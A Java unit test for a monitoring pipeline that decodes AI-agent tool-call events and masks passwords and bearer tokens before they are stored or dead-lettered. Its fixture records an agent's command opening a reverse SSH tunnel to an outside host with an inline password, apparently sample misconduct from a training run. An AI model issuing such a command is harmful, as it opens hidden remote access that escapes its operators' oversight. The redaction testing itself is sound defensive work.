package io.vigil.pipeline.ingest;

import static org.assertj.core.api.Assertions.assertThat;

import io.vigil.records.AgentEvent;
import io.vigil.records.RecordType;
import io.vigil.records.RejectReason;
import io.vigil.records.json.JsonRecordCodec;
import io.vigil.records.wire.Framings;
import io.vigil.records.wire.RecordFraming;
import java.time.Instant;
import org.junit.jupiter.api.Test;

/** Agent events at the edge: decoded, checked, their secrets masked before anything keeps them. */
class AgentEventDecodingTest {
    private static final AgentEvent CALL = AgentEvent.newBuilder()
            .setTs(Instant.parse("2026-02-14T03:00:02.500Z"))
            .setStartTs(Instant.parse("2026-02-14T03:00:02Z"))
            .setJobId("rl-7")
            .setEpisodeId("ep-42")
            .setStep(3L)
            .setRolloutWorker("rollout-2")
            .setNode("gpu-3")
            .setTool("bash")
            .setCommand("sshpass -p 'hunter2' ssh -R 2222:localhost:22 agent@203.0.113.7")
            .setExitCode(0)
            .setSandbox(null)
            .build();

    @Test
    void aJsonLineIsDecodedWithItsSecretsMasked() {
        ReceivedDecoder<AgentEvent> decoder = ReceivedDecoder.json(RecordType.AGENT_EVENT);
        String line = JsonRecordCodec.of(RecordType.AGENT_EVENT)
                .encode(AgentEvent.newBuilder(CALL).build());

        Received received = decoder.decodeLine(line, "ds/agent_events.jsonl:1");

        assertThat(received.agentEvent).isNotNull();
        assertThat(received.eventTime()).isEqualTo(CALL.getTs().toEpochMilli());
        assertThat(received.agentEvent.getCommand())
                .isEqualTo("sshpass -p [hidden] ssh -R 2222:localhost:22 agent@203.0.113.7");
    }

    @Test
    void anAvroMessageIsDecodedWithItsSecretsMasked() {
        RecordFraming<AgentEvent> framing = Framings.forTopic(RecordType.AGENT_EVENT, "vigil.agent-events", null);
        ReceivedDecoder<AgentEvent> decoder = ReceivedDecoder.avro(RecordType.AGENT_EVENT, "vigil.agent-events", null);

        Received received = decoder.decodeMessage(
                framing.encode(AgentEvent.newBuilder(CALL).build()), () -> "vigil.agent-events/0@0");

        assertThat(received.agentEvent.getCommand()).doesNotContain("hunter2");
    }

    @Test
    void aRefusedLineKeepsNoSecretInItsDeadLetter() {
        ReceivedDecoder<AgentEvent> decoder = ReceivedDecoder.json(RecordType.AGENT_EVENT);
        String line = "{\"ts\":1771038002500,\"start_ts\":1771038002000,\"job_id\":\"rl-7\",\"episode_id\":\"\","
                + "\"node\":\"gpu-3\",\"tool\":\"bash\",\"command\":\"curl -H 'Authorization: Bearer s3cr3tvalue' x\"}";

        Received received = decoder.decodeLine(line, "ds/agent_events.jsonl:2");

        assertThat(received.deadLetter).isNotNull();
        assertThat(received.deadLetter.getReason()).isEqualTo(RejectReason.MISSING_FIELD.code());
        assertThat(received.deadLetter.getRecordType()).isEqualTo("agent-event");
        assertThat(received.deadLetter.getOriginalText())
                .contains("Authorization: Bearer [hidden]")
                .doesNotContain("s3cr3tvalue");
    }
}
